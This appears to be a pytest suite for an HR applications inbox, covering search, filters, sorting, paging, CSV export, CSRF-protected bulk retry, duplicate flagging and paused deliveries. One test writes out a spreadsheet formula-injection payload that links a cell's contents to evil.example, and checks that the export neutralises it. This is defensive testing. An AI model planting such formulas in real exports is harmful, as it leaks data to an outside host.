"""The HR inbox at volume: search, filters, sort and paging in the query string; the CSV export
of the current filter; bulk retry; duplicates; paused deliveries shown as paused."""

from __future__ import annotations

import csv
import io
import itertools
import re
from datetime import datetime

import pytest
from sqlalchemy import select

from app.extensions import db
from app.models import Application, Delivery, DeliveryAttempt, Integration, Job
from tests.conftest import add_user, csrf_token_from, login

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_keys = itertools.count()


def add_job(app, title: str, department: str = "Engineering") -> int:
    with app.app_context():
        job = Job(title=title, department=department, published=True)
        db.session.add(job)
        db.session.commit()
        return job.id


def add_application(
    app,
    job_id: int,
    first: str,
    last: str,
    email: str,
    *,
    at: datetime,
    status: str = "pending",
    target: str = "local",
    source: str = "",
    phone: str = "",
) -> int:
    """A stored application and its delivery, written directly: these tests are about the list."""
    with app.app_context():
        application = Application(
            job_id=job_id,
            submission_key=f"key-{next(_keys)}",
            first_name=first,
            last_name=last,
            email=email,
            phone=phone,
            attribution={"utm_source": source} if source else {},
            created_at=at,
        )
        application.delivery = Delivery(target=target, status=status)
        db.session.add(application)
        db.session.commit()
        return application.id


@pytest.fixture
def hr(app, client):
    add_user(app)
    login(client)
    return client


@pytest.fixture
def inbox(app):
    """Five applications over two jobs and two teams, one a duplicate (email in another case)."""
    backend = add_job(app, "Backend Engineer", "Engineering")
    designer = add_job(app, "Product Designer", "Design")
    ids = {
        "ada": add_application(
            app,
            backend,
            "Ada",
            "Lovelace",
            "ada@example.com",
            at=datetime(2026, 11, 1, 9),
            status="delivered",
        ),
        "grace": add_application(
            app,
            backend,
            "Grace",
            "Hopper",
            "grace@example.com",
            at=datetime(2026, 11, 2, 9),
            status="failed",
            source="linkedin",
        ),
        "alan": add_application(
            app,
            designer,
            "Alan",
            "Turing",
            "alan@example.com",
            at=datetime(2026, 11, 3, 9),
            status="needs_review",
            source="indeed",
        ),
        "edsger": add_application(
            app,
            designer,
            "Edsger",
            "Dijkstra",
            "edsger@example.com",
            at=datetime(2026, 11, 4, 9),
            status="failed",
        ),
        "ada_again": add_application(
            app, backend, "Ada", "Lovelace", "ADA@example.com", at=datetime(2026, 11, 5, 9), source="linkedin"
        ),
    }
    return {"ids": ids, "backend": backend, "designer": designer}


def rows(html: str) -> list[int]:
    """The application ids of the list's rows, in order."""
    return [int(i) for i in re.findall(r'name="id" value="(\d+)"', html)]


def ids_of(inbox, *names: str) -> list[int]:
    return [inbox["ids"][name] for name in names]


def test_the_inbox_lists_the_newest_first_with_a_count(hr, inbox):
    page = hr.get("/admin/applications").text
    assert rows(page) == ids_of(inbox, "ada_again", "edsger", "alan", "grace", "ada")
    assert "Showing 1–5 of 5 applications" in page


FILTERS = [
    ("q=hopper", ("grace",)),
    ("q=grace+hopper", ("grace",)),
    ("q=EDSGER%40example", ("edsger",)),
    ("q=designer", ("edsger", "alan")),
    ("q=100%25", ()),  # a % typed in the search is a character, not a wildcard
    ("department=Design", ("edsger", "alan")),
    ("status=failed", ("edsger", "grace")),
    ("status=needs_review", ("alan",)),
    ("source=linkedin", ("ada_again", "grace")),
    ("source=-", ("edsger", "ada")),
    ("from=2026-11-02&to=2026-11-03", ("alan", "grace")),
    ("to=2026-11-01", ("ada",)),
    ("status=failed&department=Engineering", ("grace",)),
]


def test_search_and_filters_narrow_the_list(hr, inbox):
    for query, expected in FILTERS:
        assert rows(hr.get(f"/admin/applications?{query}").text) == ids_of(inbox, *expected), query


def test_the_job_filter_keeps_only_that_jobs_applications(hr, inbox):
    page = hr.get(f"/admin/applications?job={inbox['designer']}").text
    assert rows(page) == ids_of(inbox, "edsger", "alan")
    assert f'<option value="{inbox["designer"]}" selected>Product Designer</option>' in page


SORTS = [
    ("sort=name&order=asc", ("ada", "ada_again", "alan", "edsger", "grace")),
    ("sort=name&order=desc", ("grace", "edsger", "alan", "ada_again", "ada")),
    ("sort=received&order=asc", ("ada", "grace", "alan", "edsger", "ada_again")),
    ("sort=job&order=asc", ("ada", "grace", "ada_again", "alan", "edsger")),
    ("sort=status&order=asc", ("grace", "edsger", "alan", "ada_again", "ada")),
    ("sort=status&order=desc", ("ada", "ada_again", "alan", "edsger", "grace")),
    ("sort=nonsense&order=sideways", ("ada_again", "edsger", "alan", "grace", "ada")),
]


def test_each_column_sorts_both_ways(hr, inbox):
    for query, expected in SORTS:
        assert rows(hr.get(f"/admin/applications?{query}").text) == ids_of(inbox, *expected), query


def test_a_sorted_header_links_to_the_other_direction_and_keeps_the_filters(hr, inbox):
    page = hr.get("/admin/applications?sort=name&order=asc&status=failed").text
    assert 'aria-sort="ascending"' in page
    assert 'href="/admin/applications?status=failed&amp;sort=name"' in page  # desc is the default


def test_paging_keeps_the_filters_and_counts_across_pages(app, hr):
    job = add_job(app, "Support Agent", "Support")
    other = add_job(app, "Nurse", "Care")
    for day in range(1, 29):
        add_application(app, job, "Case", f"{day:02d}", f"case{day}@example.com", at=datetime(2026, 10, day))
    add_application(app, other, "Not", "Shown", "not@example.com", at=datetime(2026, 10, 30))
    first = hr.get(f"/admin/applications?job={job}").text
    assert "Showing 1–25 of 28 applications" in first and "Page 1 of 2" in first
    assert f'href="/admin/applications?job={job}&amp;page=2" rel="next"' in first
    second = hr.get(f"/admin/applications?job={job}&page=2").text
    assert "Showing 26–28 of 28 applications" in second and len(rows(second)) == 3
    wide = hr.get(f"/admin/applications?job={job}&per_page=50").text
    assert len(rows(wide)) == 28 and "Page 1 of" not in wide


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_the_csv_export_holds_every_row_of_the_filter_not_only_the_page(app, hr):
    job = add_job(app, "Support Agent", "Support")
    for n in range(30):
        add_application(app, job, "Case", f"{n:02d}", f"case{n}@example.com", at=datetime(2026, 10, 1, 0, n))
    add_application(
        app, add_job(app, "Nurse", "Care"), "Not", "Shown", "not@example.com", at=datetime(2026, 10, 2)
    )
    response = hr.get(f"/admin/applications/export.csv?job={job}&sort=name&order=asc&page=2")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == "attachment; filename=applications.csv"
    assert response.is_streamed
    table = csv_rows(response)
    assert table[0][:5] == ["Application", "Received (UTC)", "First name", "Last name", "Email"]
    assert [r[3] for r in table[1:]] == [f"{n:02d}" for n in range(30)]
    assert table[1][7:11] == ["Support Agent", "Support", "", "Waiting to send"]


def test_the_export_link_carries_the_current_filter(hr, inbox):
    page = hr.get("/admin/applications?status=failed&page=1&sort=name").text
    assert 'href="/admin/applications/export.csv?status=failed&amp;sort=name"' in page


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_could_run_as_a_formula_are_neutralised(app, hr, start):
    job = add_job(app, "Backend Engineer")
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    add_application(
        app, job, payload, "Smith", "x@example.com", at=datetime(2026, 10, 1), phone="+1 555 0100"
    )
    (row,) = csv_rows(hr.get("/admin/applications/export.csv"))[1:]
    assert row[2] == "'" + payload
    assert row[5] == "'+1 555 0100"
    assert row[3] == "Smith"


def delivery_of(app, application_id: int) -> Delivery:
    with app.app_context():
        found = db.session.scalar(select(Delivery).where(Delivery.application_id == application_id))
        db.session.expunge(found)
        return found


def test_bulk_retry_without_a_csrf_token_retries_nothing(app, hr, inbox):
    response = hr.post("/admin/applications/retry", data={"scope": "failed"})
    assert response.status_code == 400
    assert delivery_of(app, inbox["ids"]["grace"]).status == "failed"


def test_bulk_retry_of_the_selection_retries_only_failed_and_reviewable_ones(app, hr, inbox):
    token = csrf_token_from(hr.get("/admin/applications").text)
    chosen = ids_of(inbox, "grace", "alan", "ada")
    response = hr.post(
        "/admin/applications/retry",
        data={"csrf_token": token, "scope": "selected", "id": [str(i) for i in chosen], "status": "failed"},
    )
    assert response.status_code == 302 and response.location == "/admin/applications?status=failed"
    assert delivery_of(app, inbox["ids"]["grace"]).status == "pending"
    assert delivery_of(app, inbox["ids"]["alan"]).status == "pending"
    assert delivery_of(app, inbox["ids"]["ada"]).status == "delivered"
    assert delivery_of(app, inbox["ids"]["edsger"]).status == "failed"  # not selected
    page = hr.get(response.location).text
    assert "2 deliveries queued again. 1 not retried: only failed deliveries" in page


def test_bulk_retry_of_all_failed_acts_on_the_current_filter(app, hr, inbox):
    token = csrf_token_from(hr.get("/admin/applications").text)
    response = hr.post(
        "/admin/applications/retry", data={"csrf_token": token, "scope": "failed", "department": "Design"}
    )
    assert response.location == "/admin/applications?department=Design"
    assert delivery_of(app, inbox["ids"]["edsger"]).status == "pending"
    assert delivery_of(app, inbox["ids"]["grace"]).status == "failed"  # Engineering
    assert delivery_of(app, inbox["ids"]["alan"]).status == "needs_review"  # HR must check it first
    assert "1 delivery queued again." in hr.get(response.location).text
    again = hr.post(
        "/admin/applications/retry",
        data={"csrf_token": token, "scope": "failed", "status": "failed", "department": "Design"},
    )
    assert "No delivery in this view has failed." in hr.get(again.location).text
    with app.app_context():
        entries = db.session.scalars(select(DeliveryAttempt)).all()
        assert [(e.delivery_id, e.outcome) for e in entries] == [
            (delivery_of(app, inbox["ids"]["edsger"]).id, "retried")
        ]


def test_duplicates_are_flagged_in_the_list_and_link_to_each_other(hr, inbox):
    page = hr.get("/admin/applications").text
    first, again = inbox["ids"]["ada"], inbox["ids"]["ada_again"]
    assert page.count("Duplicate: also applied") == 2
    assert f'<a href="/admin/applications/{again}">on 2026-11-05</a>' in page
    assert f'<a href="/admin/applications/{first}">on 2026-11-01</a>' in page
    detail = hr.get(f"/admin/applications/{first}").text
    assert "this person also applied for this job" in detail
    assert f'href="/admin/applications/{again}"' in detail
    assert "also applied" not in hr.get(f"/admin/applications/{inbox['ids']['grace']}").text


def test_the_same_email_on_another_job_is_no_duplicate(app, hr, inbox):
    add_application(app, inbox["designer"], "Grace", "Hopper", "grace@example.com", at=datetime(2026, 11, 6))
    page = hr.get("/admin/applications?q=grace").text
    assert len(rows(page)) == 2 and "Duplicate" not in page


def pause(app, kind: str, reason: str) -> None:
    with app.app_context():
        db.session.add(Integration(kind=kind, paused=True, paused_reason=reason))
        db.session.commit()


def test_a_delivery_waiting_on_a_paused_target_shows_paused_with_the_reason(app, hr, inbox):
    pause(app, "local", "local: POST /inbox -> 401")
    waiting = inbox["ids"]["ada_again"]
    listing = hr.get("/admin/applications").text
    assert re.search(r'class="status status-paused">.*?</span> Paused</span>', listing)
    assert "Waiting to send" not in listing.split("<table")[1]
    assert rows(hr.get("/admin/applications?status=paused").text) == [waiting]
    assert rows(hr.get("/admin/applications?status=pending").text) == []
    banner = listing.split('role="alert"')[1].split("</div>")[0]
    assert 'href="/admin/settings/ats"' in banner and "configuration" not in banner
    detail = hr.get(f"/admin/applications/{waiting}").text
    assert "Paused</span>" in detail and "local: POST /inbox -&gt; 401" in detail
    assert "Attempts" not in detail.split("Technical details")[0]


def test_statuses_are_told_in_words_and_symbols_not_colour_alone(hr, inbox):
    page = hr.get("/admin/applications").text
    for words in ("Delivered", "Failed", "Needs review", "Waiting to send"):
        assert re.search(
            rf'<span class="status status-\w+"><span class="status-symbol" aria-hidden="true">.</span> '
            rf"{words}</span>",
            page,
        ), words
